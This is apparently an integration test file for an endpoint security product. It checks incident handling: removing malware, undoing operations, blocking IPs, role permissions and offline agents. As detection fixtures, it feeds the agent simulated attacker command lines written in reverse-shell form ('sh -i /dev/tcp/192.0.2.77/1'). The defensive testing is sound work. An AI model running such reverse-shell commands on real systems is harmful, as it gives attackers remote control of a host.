/** A whole incident handled at once, on the host: a real server, a real agent, real processes and files of one attack. */
import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { type TestContext, test } from 'node:test'
import type { AlertBatch, AlertRow, IncidentDetail, OperationView } from '@rampart/api'
import { bootId, isAlive, until } from '../testing/real-agent.ts'
import { startServerWithAgent } from '../testing/server-with-agent.ts'
import { TestConsole } from '../testing/test-console.ts'

const attackers = { pid: 4000, entityId: `${bootId}-4000-1`, executable: '/usr/bin/dash' }

async function setUp(t: TestContext) {
  const { running, agent, console, runIdle } = await startServerWithAgent(t)

  /** Something that the attacker's shell started, running from a file of its own. */
  async function evil(name: string): Promise<{ path: string; pid: number }> {
    const { path, pid } = runIdle(name)
    await until('the program', () => readFileSync(`/proc/${pid}/cmdline`, 'utf8').startsWith(path))
    agent.tellProcess(pid, { commandLine: `${name} 600 /dev/tcp/192.0.2.77/1`, ancestors: [attackers] })
    return { path, pid }
  }
  /** The incident once it has so many alerts. */
  async function incident(alerts: number): Promise<IncidentDetail> {
    const id = await until('the incident', async () => {
      const { items } = (await console.call('listIncidents', { query: 'state=all' })).body
      return items[0]?.alertCount === alerts ? (items[0].id as string) : undefined
    })
    return (await console.call('getIncident', { id })).body
  }
  const ended = (batch: AlertBatch) =>
    until('the batch', async () => {
      const { body } = await console.call('getBatch', { id: batch.id })
      return body.state === 'running' ? undefined : (body as AlertBatch)
    })
  async function handle({ id }: IncidentDetail, body: Record<string, unknown>): Promise<AlertBatch> {
    const answer = await console.call('handleIncidentAlerts', { id, body })
    assert.equal(answer.status, 200, JSON.stringify(answer.body))
    return ended(answer.body.batch)
  }
  const statesOf = (alerts: readonly AlertRow[]) => alerts.map(({ state }) => state).sort()
  const settled = (id: string, states: string[]) =>
    until(`the states ${states.join(', ')}`, async () => {
      const { body } = await console.call('getIncident', { id })
      return statesOf(body.alerts).join() === states.join() ? (body as IncidentDetail) : undefined
    })
  return { running, agent, console, evil, incident, ended, handle, settled }
}

test('virus removal on a whole incident: each alert has its own result, and each operation its own undo', async (t) => {
  const { agent, console, evil, incident, handle, settled } = await setUp(t)
  const attack = [await evil('evil-0'), await evil('evil-1')]
  // Part of the attack whose file is the system's own shell.
  const shell = { pid: 4001, entityId: `${bootId}-4001-1`, executable: '/usr/bin/dash' }
  const commandLine = 'sh -i /dev/tcp/192.0.2.77/1'
  agent.tell({
    type: 'process.started',
    user: { id: 0, name: 'root' },
    process: { ...shell, commandLine, ancestors: [attackers] },
  })
  const seen = await incident(3)
  assert.deepEqual([seen.state, seen.openCount], ['open', 3])

  const batch = await handle(seen, { operation: 'virus removal', note: 'A drill.' })
  assert.deepEqual([batch.total, batch.done, batch.refused, batch.undoable], [3, 2, 1, false])
  const [refused] = (await console.call('listBatchItems', { id: batch.id, query: 'outcome=refused' })).body.items
  assert.match(refused.reason, /dash is a program of the system that was misused/)
  const handled = await settled(seen.id, ['handled', 'handled', 'unhandled'])
  assert.deepEqual([handled.state, handled.openCount], ['open', 1], 'one alert is left, so it is not over')
  assert.deepEqual(
    [handled.history.at(-1)?.operation, handled.history.at(-1)?.note],
    ['virus removal', '3 alerts: A drill.'],
  )
  for (const { path, pid } of attack) assert.deepEqual([existsSync(path), isAlive(pid)], [false, false], path)
  assert.ok(existsSync('/usr/bin/dash'))

  const operations = (await console.call('listOperations')).body.items as OperationView[]
  assert.deepEqual(
    operations.map(({ name, state, actor, note }) => [name, state, actor, note]),
    [1, 2].map(() => ['virus removal', 'done', 'admin', 'A drill.']),
  )
  for (const { id } of operations) assert.equal((await console.call('undoOperation', { id, body: {} })).status, 200)
  await settled(seen.id, ['unhandled', 'unhandled', 'unhandled'])
  for (const { path } of attack) assert.ok(existsSync(path))
})

test('a decision about a whole incident closes it, and taking the decision back opens it again', async (t) => {
  const { console, evil, incident, ended, handle, settled } = await setUp(t)
  await evil('evil-0')
  await evil('evil-1')
  const seen = await incident(2)
  const block = (id: string) => ({
    address: '198.51.100.7',
    assets: [seen.assets[0]?.id],
    reason: 'It attacks.',
    incident: id,
  })
  assert.equal((await console.call('createIpRule', { body: block('in-none') })).status, 404)
  assert.equal((await console.call('listIpRules')).body.items.length, 0)
  assert.equal((await console.call('createIpRule', { body: block(seen.id) })).status, 200)
  const { history } = (await console.call('getIncident', { id: seen.id })).body as IncidentDetail
  assert.deepEqual(
    [history.at(-1)?.actor, history.at(-1)?.operation, history.at(-1)?.note],
    ['admin', 'block IP', 'Block 198.51.100.7 on 1 asset. It attacks.'],
  )
  const batch = await handle(seen, { operation: 'handled manually', close: true })
  assert.deepEqual([batch.done, batch.undoable], [2, true])
  assert.equal((await settled(seen.id, ['handled', 'handled'])).state, 'closed')
  const undone = await ended((await console.call('undoBatch', { id: batch.id })).body)
  assert.equal(undone.done, 2)
  const again = await settled(seen.id, ['unhandled', 'unhandled'])
  assert.deepEqual([again.state, again.openCount, again.history.at(-1)?.operation], ['open', 2, 'reopened'])
})

test('agents that are away do their part of an incident when they are back; who may not respond is told', async (t) => {
  const { running, agent, console, evil, incident, handle, settled } = await setUp(t)
  const attack = [await evil('evil-0'), await evil('evil-1')]
  const seen = await incident(2)
  await agent.end('SIGTERM')
  const analyst = new TestConsole(running.server.consoleUrl)
  const made = await console.call('createUser', { body: { name: 'nora', role: 'analyst' } })
  await analyst.begin({ name: 'nora', password: made.body.password })
  const refused = await analyst.call('handleIncidentAlerts', { id: seen.id, body: { operation: 'kill process' } })
  assert.deepEqual([refused.status, refused.body.message], [403, 'This needs the role responder.'])

  const batch = await handle(seen, { operation: 'kill process' })
  assert.equal(batch.done, 2)
  await settled(seen.id, ['handling', 'handling'])
  assert.ok(attack.every(({ pid }) => isAlive(pid)))
  await agent.start()
  await settled(seen.id, ['handled', 'handled'])
  assert.ok(attack.every(({ pid }) => !isAlive(pid)))
})
